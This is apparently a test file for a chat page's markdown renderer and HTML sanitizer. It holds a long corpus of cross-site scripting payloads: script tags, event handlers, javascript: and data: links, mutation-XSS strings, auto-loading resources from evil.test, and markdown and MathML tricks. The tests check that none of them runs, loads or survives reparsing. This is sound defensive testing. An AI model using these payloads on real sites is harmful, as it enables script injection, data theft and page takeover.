// What strangers write to make a page do things, on both layers: as a message that is rendered, and as HTML that the allow-list alone
// has to hold (as if the first layer had failed). Nothing may run, load or lead astray, and it may not begin to when the page's own
// HTML is parsed once more, which is what mutation attacks live from.

import { check, drawn, property, stage, test } from "../../testing/testing";
import { lex, renderBlock, sanitize } from "./render";
import { mathML } from "./math";

/** The kinds of attack, one or several of each. `run()` is what they want to call. */
const corpus = [
  // elements that run
  `<script>run()</script>`, `<script src=//evil.test/x.js></script>`, `<SCRIPT/SRC=//evil.test/x.js>`, `<<script>run()//<</script>`, `<scr<script>ipt>run()</scr</script>ipt>`,
  `<script type=module>run()</script>`, `<script>/*</script>*/run()</script>`, `"><script>run()</script>`, `'><script>run()</script>`, `</p><script>run()</script>`,
  // handlers
  `<img src=x onerror=run()>`, `<img src=x onerror="run()">`, `<img/src/onerror=run()>`, `<img src=x onerror=run() //`, `<IMG """><img src=x onerror=run()>`, `<svg onload=run()>`, `<svg/onload=run()>`,
  `<body onload=run()>`, `<details open ontoggle=run()>`, `<video><source onerror=run()></video>`, `<audio src=x onerror=run()>`, `<input autofocus onfocus=run()>`, `<select autofocus onfocus=run()>`,
  `<textarea autofocus onfocus=run()>`, `<a href=# onclick=run()>press</a>`, `<p onmouseover=run()>over</p>`, `<p style="animation-name:x" onanimationstart=run()>`, `<marquee onstart=run()>`,
  `<a id=x tabindex=1 onfocus=run()></a>`, `<form><button formaction="javascript:run()">press</button></form>`, `<isindex type=image src=1 onerror=run()>`,
  // addresses
  `<a href="javascript:run()">press</a>`, `<a href=" javascript:run()">press</a>`, `<a href="java\tscript:run()">press</a>`, `<a href="java&#10;script:run()">press</a>`, `<a href="&#106;avascript:run()">press</a>`,
  `<a href="JaVaScRiPt:run()">press</a>`, `<a href="vbscript:run()">press</a>`, `<a href="data:text/html,<script>run()</script>">press</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==">press</a>`,
  `<a href="\u0001javascript:run()">press</a>`, `<a href="//evil.test/">press</a>`, `<a href="/api/host.describe">press</a>`, `<a href="blob:x">press</a>`, `<a href="file:///etc/passwd">press</a>`,
  `[press](javascript:run())`, `[press](JAVASCRIPT:run())`, `[press]( javascript:run())`, `[press](java&#115;cript:run())`, `[press](<javascript:run()>)`, `[press](data:text/html,x)`, `[press](vbscript:x)`,
  `![p](javascript:run())`, `![p"onerror="run()](x)`, `![p](https://evil.test/p.png"onload="run())`, `[p](https://evil.test/"onmouseover="run())`, `[press][1]\n\n[1]: javascript:run()`, `<javascript:run()>`, `<https://evil.test/"onclick="run()>`,
  `[a](https://evil.test "t\\" onclick=run() x")`, `[press](javascript&colon;run())`, `[press](javascript:/*https://*/run())`, `[https://example.test](https://evil.test)`,
  // what loads by itself
  `<img src=https://evil.test/p.png>`, `<img srcset="https://evil.test/p.png 1x">`, `<picture><source srcset=https://evil.test/p></picture>`, `<iframe src=https://evil.test></iframe>`, `<iframe srcdoc="<script>run()</script>"></iframe>`,
  `<object data=https://evil.test></object>`, `<embed src=https://evil.test>`, `<link rel=stylesheet href=https://evil.test/x.css>`, `<style>@import "https://evil.test/x.css"</style>`, `<style>*{background:url(https://evil.test/p)}</style>`,
  `<p style="background:url(https://evil.test/p)">x</p>`, `<table background=https://evil.test/p><tr><td background=https://evil.test/p>x</table>`, `<base href=https://evil.test/>`, `<meta http-equiv=refresh content="0;url=https://evil.test">`,
  `<video poster=https://evil.test/p></video>`, `<svg><image href=https://evil.test/p /></svg>`, `<svg><use href="https://evil.test/x#y"/></svg>`, `<a ping=https://evil.test/p href=https://example.test>x</a>`,
  // what takes the page over
  `<form action=https://evil.test><input name=q></form>`, `<div id=root>x</div>`, `<div id=cjk data-busy=true>x</div>`, `<a name=pageTests>x</a>`, `<form name=attributes><input name=nodeName></form>`, `<img name=body>`, `<dialog open>x</dialog>`, `<p popover id=p>x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`, `<p class="boot-failure">x</p>`, `<template><script>run()</script></template>`, `<slot name=x></slot>`, `<p is=x-y>x</p>`, `<x-y>x</x-y>`, `<plaintext>`, `<xmp><img src=x onerror=run()></xmp>`, `<frameset onload=run()>`,
  // mutation: what changes when it is parsed once more
  `<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>`, `<svg></p><style><a id="</style><img src=1 onerror=run()>">`,
  `<noscript><p title="</noscript><img src=x onerror=run()>">`, `<svg><style><img src=x onerror=run()></style></svg>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=run()></style></annotation-xml></math>`,
  `<table><a href="javascript:run()">x</a><tr><td>y</table>`, `<math><mi//xlink:href="data:x,<script>run()</script>">`, `<svg><desc><![CDATA[</desc><script>run()</script>]]></desc></svg>`, `<a title="&lt;/a>&lt;img src=x onerror=run()>">x</a>`,
  `<textarea><img title="</textarea><img src=x onerror=run()>"></textarea>`, `<title><a title="</title><img src=x onerror=run()>"></title>`, `<style><a title="</style><img src=x onerror=run()>"></style>`, `<iframe><img title="</iframe><img src=x onerror=run()>"></iframe>`,
  `<select><option><style></option></select><img src=x onerror=run()></style>`, `<svg><foreignObject><iframe srcdoc="&lt;script>run()&lt;/script>"></iframe></foreignObject></svg>`, `<!--><img src=x onerror=run()>-->`, `<!--!><img src=x onerror=run()>`, `<?xml ><img src=x onerror=run()> ?>`, `<![CDATA[<img src=x onerror=run()>]]>`,
  // through what markdown makes of it
  "`<img src=x onerror=run()>`", "```html\n<img src=x onerror=run()>\n```", "```\"onmouseover=run()\nx\n```", "```<img/src=x/onerror=run()>\nx\n```", "| <img src=x onerror=run()> |\n| --- |\n| <svg onload=run()> |", "> <script>run()</script>",
  "- <iframe srcdoc='<script>run()</script>'>", "# <img src=x onerror=run()>", "<div>\n\n*x* <img src=x onerror=run()>\n\n</div>", "\\<img src=x onerror=run()>", "&lt;img src=x onerror=run()&gt;", "$<img src=x onerror=run()>$", "$$\\href{javascript:run()}{x}$$",
  "$\\style{background:url(https://evil.test)}{x}$", "$\\class{boot-failure}{x}$", "$$\\text{<img src=x onerror=run()>}$$", "$\\includegraphics{https://evil.test/p.png}$", "[^1]\n\n[^1]: <script>run()</script>", "1. <details open ontoggle=run()>",
];

const words = new Set("A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL".split(" "));
const formulas = /^(math|m[a-z]+)$/;
const plain = new Set(["align", "class", "href", "rel", "start", "target"]);

/** What of the tree a stranger should not have been able to make. */
function strangers(root: HTMLElement): readonly string[] {
  return Array.from(root.querySelectorAll("*")).flatMap((element) => {
    const formula = element.namespaceURI === "http://www.w3.org/1998/Math/MathML";
    const known = formula ? formulas.test(element.tagName) : words.has(element.tagName);
    const attributes = Array.from(element.attributes).filter(({ name, value }) => {
      if (/^(on|src|style|id|name|srcset|srcdoc|ping|action|formaction|background|poster|data)/i.test(name)) return true;
      if (name === "href") return !/^(https?:|mailto:)/i.test(value) || element.tagName !== "A";
      if (name === "is" && value === "") return false; // what the allow-list leaves of it, because it cannot be taken away; it means nothing
      return !formula && !plain.has(name);
    });
    return [...(known ? [] : [element.outerHTML.slice(0, 120)]), ...attributes.map(({ name, value }) => `<${element.tagName} ${name}=${JSON.stringify(value)}>`)];
  });
}

let ran = 0;
Object.assign(globalThis, { run: () => ran++ });

/** Puts the HTML into the page, twice, and says what should not be there. */
function problems(html: string): readonly string[] {
  const root = stage();
  root.innerHTML = html;
  const first = strangers(root);
  root.innerHTML = root.innerHTML;
  return [...first, ...strangers(root).map((each) => `after parsing it once more: ${each}`)];
}

/** A message as the page renders it, block by block. */
const rendered = (text: string) => lex(text).map((token) => renderBlock(token, mathML)).join("");

async function harmless(): Promise<void> {
  await drawn();
  check.equal(ran, 0, "handlers that ran");
  const loaded = performance.getEntriesByType("resource").map(({ name }) => name).filter((name) => !name.startsWith(location.origin));
  check.equal(loaded, [], "what was fetched from elsewhere");
}

test("no message of the corpus runs, loads or leads astray", async () => {
  for (const text of corpus) {
    const found = problems(rendered(text));
    check(found.length === 0, `${JSON.stringify(text)} became ${found.join(", ")}`);
  }
  await harmless();
});

/** Even where it is only parsed, in a document that nobody sees, an inline style or a base is a breach of the page's policy, which fails the test. */
const forbidden = /<style|style=|<base/i;

test("the allow-list alone holds all of the corpus that the policy lets be parsed", async () => {
  for (const html of corpus.filter((each) => !forbidden.test(each))) {
    const found = problems(sanitize(html));
    check(found.length === 0, `${JSON.stringify(html)} became ${found.join(", ")}`);
  }
  await harmless();
});

test("each element of a message can only be what it looks like: links open elsewhere, without a way back", async () => {
  const root = stage();
  root.innerHTML = rendered("[press](https://evil.test/) and <https://evil.test/> and ![picture](https://evil.test/p.png)");
  const links = Array.from(root.querySelectorAll("a"));
  check.equal(links.length, 3, "links");
  check(links.every((link) => link.target === "_blank" && link.relList.contains("noopener") && link.relList.contains("noreferrer")), root.innerHTML);
  await harmless();
});

property("no mixture of attacks gets through either layer", 300, async (random) => {
  const pieces = random.picks(corpus, 2, 4).map((piece) => {
    const cut = random.chance(0.4) ? random.integer(1, piece.length) : piece.length;
    return piece.slice(0, cut);
  });
  const text = pieces.join(random.pick(["", " ", "\n", "\n\n", "`", "<", '"', "</", "\u0000"]));
  const found = [...problems(rendered(text)), ...(forbidden.test(text) ? [] : problems(sanitize(text)))];
  check(found.length === 0, `${JSON.stringify(text)} became ${found.join(", ")}`);
  if (random.chance(0.05)) await harmless();
});
